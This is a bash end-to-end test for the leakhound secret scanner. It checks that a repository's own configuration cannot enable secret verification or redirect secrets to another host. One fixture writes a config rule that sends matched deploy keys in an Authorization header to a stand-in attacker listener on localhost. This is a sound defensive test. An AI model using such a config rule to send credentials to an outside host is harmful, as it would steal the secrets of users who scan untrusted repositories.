#!/usr/bin/env bash
# Verification safety end to end (docs/verify.md, "Safety"): a scanned
# repository's own .leakhound.toml can neither turn verification on nor choose
# where secrets are sent; staged mode verifies only on --verify. A loopback
# stand-in for GitHub (tests/verify/fake_providers.py) logs every request, and
# a bare TCP listener stands in for an attacker's host: it logs every
# connection, so a secret on its way there (TLS or not) is caught.
source "$(dirname "$0")/lib.sh"

FAKE="$SOURCE_DIR/tests/verify/fake_providers.py"
GH_LIVE=$(github_token 11)
printf '{"live": ["%s"]}\n' "$GH_LIVE" >"$TMP/tokens.json"

PIDS=()
trap 'for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done; rm -rf "$TMP"' EXIT
wait_port() {  # FILE
  for _ in $(seq 100); do [[ -s "$1" ]] && return 0; sleep 0.1; done
  echo "FAIL: server did not start ($1)" >&2
  exit 1
}
python3 "$FAKE" --tokens "$TMP/tokens.json" --log "$TMP/github.log" --port-file "$TMP/github.port" &
PIDS+=($!)
wait_port "$TMP/github.port"
touch "$TMP/github.log"
export LEAKHOUND_VERIFY_BASE_URL_GITHUB="http://127.0.0.1:$(cat "$TMP/github.port")/github"

# The attacker's host: accepts, logs, hangs up.
python3 - "$TMP/attacker.port" "$TMP/attacker.log" <<'PY' &
import socket, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(16)
open(sys.argv[1], "w").write(str(s.getsockname()[1]))
while True:
    c, _ = s.accept()
    with open(sys.argv[2], "a") as f:
        f.write("connection\n")
    c.close()
PY
PIDS+=($!)
wait_port "$TMP/attacker.port"
touch "$TMP/attacker.log"
EVIL="https://127.0.0.1:$(cat "$TMP/attacker.port")"

# A repository whose own configuration turns verification on and adds a rule
# that would send GitHub tokens to the attacker's host.
REPO="$TMP/repo"
mkdir -p "$REPO"
cat >"$REPO/.leakhound.toml" <<TOML
[verify]
enabled = true

[[rule]]
id = "evil.token"
description = "deploy key, 'verified' by the attacker"
regex = 'DEPLOY_KEY=(dk_[a-z0-9]{24})'
secret_group = 1
[rule.verify]
name = "evil"
base_url = "$EVIL"
path = "/collect"
headers = { Authorization = "Bearer {{secret}}" }
live = { status = 200 }
TOML
printf 'GITHUB_TOKEN=%s\nDEPLOY_KEY=dk_%s\n' "$GH_LIVE" "$(printf 'q7x2m9k4w1z8c5v3b6n0p2r4' )" >"$REPO/app.env"
verdicts() { json_eval "$TMP/r.json" "sorted({f['rule_id'] + ':' + f.get('verification', {}).get('verdict', 'unverified') for f in d['findings']})"; }
# contacted NAME: GitHub /user requests (one per verification) or attacker connections.
contacted() { grep -c -e '"path": "/github/user"' -e '^connection$' "$TMP/$1.log"; }

# 1. A plain scan: the repository's `enabled = true` is ignored with a note.
run_lh scan "$REPO" -f json -o "$TMP/r.json"
expect_eq "$RC" "1" "findings reported"
expect_contains "$ERR" "note: $REPO/.leakhound.toml: [verify] enabled is ignored in an auto-discovered configuration" "note on the ignored setting"
expect_eq "$(verdicts)" "['evil.token:unverified', 'github.pat.classic:unverified']" "nothing verified"
expect_eq "$(contacted github)" "0" "GitHub not contacted without --verify"
expect_eq "$(contacted attacker)" "0" "attacker not contacted"

# 2. --verify: the built-in verifier runs; the repository's [rule.verify] does not.
run_lh scan "$REPO" --verify -f json -o "$TMP/r.json"
expect_contains "$ERR" "ignoring the verifiers of 1 rule (evil.token) from an auto-discovered configuration" "warning on the ignored verifier"
expect_eq "$(verdicts)" "['evil.token:unverified', 'github.pat.classic:live']" "only the built-in verifier ran"
expect_eq "$(contacted github)" "1" "GitHub contacted once"
expect_eq "$(contacted attacker)" "0" "attacker still not contacted"
run_lh scan "$REPO" --verify-dry-run
expect_not_contains "$ERR" "$EVIL" "dry run does not list the repository's endpoint"

# 3. The same file given with --config is trusted: its verifier is listed
# (dry run: contacts nothing) and its `enabled` turns verification on.
run_lh scan "$REPO" --config "$REPO/.leakhound.toml" --verify-dry-run
expect_contains "$ERR" "GET $EVIL/collect" "explicit --config: its verifier is used"
expect_eq "$(contacted attacker)" "0" "dry run contacted nothing"
cat >"$TMP/mine.toml" <<'TOML'
[verify]
enabled = true
TOML
: >"$TMP/github.log"
run_lh scan "$REPO" --config "$TMP/mine.toml" -f json -o "$TMP/r.json"
expect_not_contains "$ERR" "is ignored" "no note for an explicit configuration"
expect_eq "$(json_eval "$TMP/r.json" "d['findings'][0]['verification']['verdict']")" "live" "explicit [verify] enabled verifies"
expect_eq "$(contacted github)" "1" "GitHub contacted"

# 4. staged (pre-commit) ignores [verify] enabled, even from --config; --verify verifies.
git -C "$REPO" init -q
git -C "$REPO" add app.env
: >"$TMP/github.log"
run_lh staged "$REPO" --config "$TMP/mine.toml" -f json -o "$TMP/r.json"
expect_eq "$RC" "1" "staged finds the token"
expect_eq "$(json_eval "$TMP/r.json" "'verification' in d['findings'][0]")" "False" "staged: [verify] enabled does not verify"
expect_eq "$(contacted github)" "0" "staged: nothing contacted"
run_lh staged "$REPO" --config "$TMP/mine.toml" --verify -f json -o "$TMP/r.json"
expect_eq "$(json_eval "$TMP/r.json" "d['findings'][0]['verification']['verdict']")" "live" "staged --verify verifies"

finish
